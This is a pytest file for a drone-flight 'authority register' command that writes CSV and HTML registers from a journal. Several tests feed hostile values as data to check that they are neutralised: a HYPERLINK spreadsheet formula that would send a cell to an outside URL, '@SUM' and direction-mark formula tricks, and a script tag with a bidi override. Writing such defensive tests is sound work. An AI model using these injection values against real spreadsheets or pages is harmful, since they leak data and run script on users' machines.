"""`authority register`: the register of uses, and the entry that it is sent."""

import csv
import json
import os
from types import SimpleNamespace

import pytest
from typer.testing import CliRunner

from blindspot.cli.law.authority import app
from blindspot.core.errors import InputError
from blindspot.evidence.acts.register import register_sent
from blindspot.evidence.journals.journal import Journal
from blindspot.stack.stack_record import end_stack_record, note_ready, write_stack_record

BY = ["--person", "A. Martin", "--recipient", "cabinet"]


@pytest.fixture
def journal(tmp_path):
    path = tmp_path / "journal.jsonl"
    Journal(path, "test").write(
        "clearance", run="evening", granted=True, authorisation="PP-1", profile="FR-CSI-L242-5", person="A. Martin",
        viewers=["V. Viewer", "W. Viewer"],
    )  # fmt: skip
    return path


def grant(journal, run, **facts):
    known = {"authorisation": "PP-1", "profile": "FR-CSI-L242-5", "person": "A. Martin", "drones": ["drone1"]}
    Journal(journal, "test").write("clearance", run=run, granted=True, **known | facts)


def register(out, journal, *words):
    return CliRunner().invoke(app, ["register", str(out), "--journal", str(journal), *words], catch_exceptions=False)


def test_the_register_names_each_use_and_its_sending_is_in_the_journal(journal, tmp_path):
    out = tmp_path / "register.csv"
    result = register(out, journal, *BY, "--json")
    assert result.exit_code == 0 and json.loads(result.output)["uses"] == 1
    assert out.stat().st_mode & 0o077 == 0, "it names people"
    [row] = list(csv.DictReader(out.read_text(encoding="utf-8").splitlines()))
    assert (row["run"], row["authorisation"], row["outcome"]) == ("evening", "PP-1", "")
    assert row["access"] == "V. Viewer; W. Viewer"
    assert register_sent(journal) is not None
    assert register(tmp_path / "next.csv", journal, *BY).exit_code == 0
    [row] = csv.DictReader((tmp_path / "next.csv").read_text().splitlines())
    assert row["run"] == "" and row["head_number"] == "2", "a week without a flight has a head all the same"


def test_no_name_is_a_formula_of_a_spreadsheet(journal, tmp_path):
    evil = '=HYPERLINK("http://example.org?"&A1)'
    Journal(journal, "test").write(
        "clearance", run="next", granted=True, authorisation="PP-1", profile="FR-CSI-L242-5", person=evil,
        viewers=["@SUM(A1)"],
    )  # fmt: skip
    assert register(tmp_path / "register.csv", journal, *BY).exit_code == 0
    [_, row] = list(csv.DictReader((tmp_path / "register.csv").read_text(encoding="utf-8").splitlines()))
    assert (row["person"], row["access"]) == (f"'{evil}", "'@SUM(A1)")


def test_a_mark_that_turns_the_direction_hides_no_formula(journal, tmp_path):
    grant(journal, "next", person="\u200f=1+1")
    assert register(tmp_path / "register.csv", journal, *BY).exit_code == 0
    [_, row] = csv.DictReader((tmp_path / "register.csv").read_text(encoding="utf-8").splitlines())
    assert row["person"] == "'=1+1"


def test_the_page_beside_the_table_holds_the_head_of_the_journal_and_foreign_text_as_text(journal, tmp_path):
    hostile = "<script>alert(1)</script>\u202e" + "a" * 10_000
    grant(journal, "next", person=hostile[:9000], purpose="<b>L242-5-I-1")
    result = register(tmp_path / "register.csv", journal, *BY, "--json", "--language", "fr")
    said = json.loads(result.output)
    page = (tmp_path / "register.html").read_text(encoding="utf-8")
    head = json.loads(journal.read_text().splitlines()[1])
    assert said["head"] == {"number": 2, "sha256": head["sha256"]} and head["sha256"] in page
    assert (tmp_path / "register.html").stat().st_mode & 0o077 == 0, "it names people"
    assert "Registre des emplois" in page and '<html lang="fr">' in page
    assert "<script" not in page and "&lt;script&gt;" in page and "\u202e" not in page and "a" * 1000 not in page
    [_, row] = csv.DictReader((tmp_path / "register.csv").read_text(encoding="utf-8").splitlines())
    assert (row["head_number"], row["head_sha256"]) == ("2", head["sha256"])


def test_each_use_names_its_proportion_or_the_reason_why_it_is_unknown(journal, tmp_path):
    grant(journal, "next")
    grant(journal, "gap")
    for run, reason, figure in (("next", "", 120.0), ("gap", "looks.csv has a gap", None)):
        (tmp_path / "there" / run).mkdir(parents=True)
        summary = {"outcome": "completed", "proportion": {"private_m2s": figure, "reason": reason}}
        (tmp_path / "there" / run / "summary.json").write_text(json.dumps(summary))
    (tmp_path / "there" / "journal.jsonl").touch()  # the folder of a stack
    assert register(tmp_path / "r.csv", journal, *BY, "--runs", str(tmp_path / "there")).exit_code == 0
    rows = csv.DictReader((tmp_path / "r.csv").read_text(encoding="utf-8").splitlines())
    found = {row["run"]: (row["private_m2s"], row["proportion_unknown"]) for row in rows}
    assert found["next"] == ("120", "") and found["gap"] == ("", "looks.csv has a gap")
    assert found["evening"] == ("", "the folder of the run was not found")


def test_a_journal_of_a_drone_that_lost_an_entry_is_refused(journal, tmp_path):
    other = tmp_path / "drone1.jsonl"
    for act in ("arming", "recording", "landing"):
        Journal(other, "test").write(act, run="evening", drone="drone1")
    lines = other.read_bytes().splitlines(keepends=True)
    other.write_bytes(lines[0] + lines[2])
    with pytest.raises(InputError, match=r"--drone-journal: line 2 is entry 3: entry 2 is missing"):
        register(tmp_path / "register.csv", journal, *BY, "--drone-journal", str(other))
    assert register_sent(journal) is None and not (tmp_path / "register.csv").exists()


@pytest.mark.parametrize("words", [["--person", " ", "--recipient", "x"], ["--person", "x", "--recipient", " "]])
def test_nobody_sends_it_to_nobody(journal, tmp_path, words):
    with pytest.raises(InputError, match="is empty"):
        register(tmp_path / "register.csv", journal, *words)
    assert register_sent(journal) is None


def test_a_file_that_is_there_stays_and_nothing_counts_as_sent(journal, tmp_path):
    out = tmp_path / "register.csv"
    out.write_text("kept")
    with pytest.raises(InputError, match="is there already"):
        register(out, journal, *BY)
    assert out.read_text() == "kept" and register_sent(journal) is None


def test_a_missing_journal_is_named(tmp_path):
    with pytest.raises(InputError, match="is missing"):
        register(tmp_path / "register.csv", tmp_path / "none.jsonl", *BY)


def test_a_simulation_after_a_real_flight_does_not_empty_the_register(journal, tmp_path, monkeypatch):
    """The record of the latest stack is then that of the simulation."""
    monkeypatch.setenv("BLINDSPOT_STATE", str(tmp_path))
    simulated = tmp_path / "runs" / "journal.jsonl"
    simulated.parent.mkdir()
    Journal(simulated, "test").write("mission", run="practice")
    fleet = SimpleNamespace(path=tmp_path)
    what = SimpleNamespace(mode="embedded", fleet=fleet, journal=simulated, watched=(), public_key=None, simulated=True)
    write_stack_record(os.environ, what, simulated.parent)
    note_ready(os.environ)
    end_stack_record(os.environ)
    out = tmp_path / "register.csv"
    result = CliRunner().invoke(app, ["register", str(out), *BY], catch_exceptions=False)
    assert result.exit_code == 0 and f"1 flights; send it to cabinet now, {journal} says" in result.output
    assert register_sent(journal) is not None and register_sent(simulated) is None
    opened = CliRunner().invoke(app, ["end-run"], catch_exceptions=False)
    assert "practice" not in opened.output
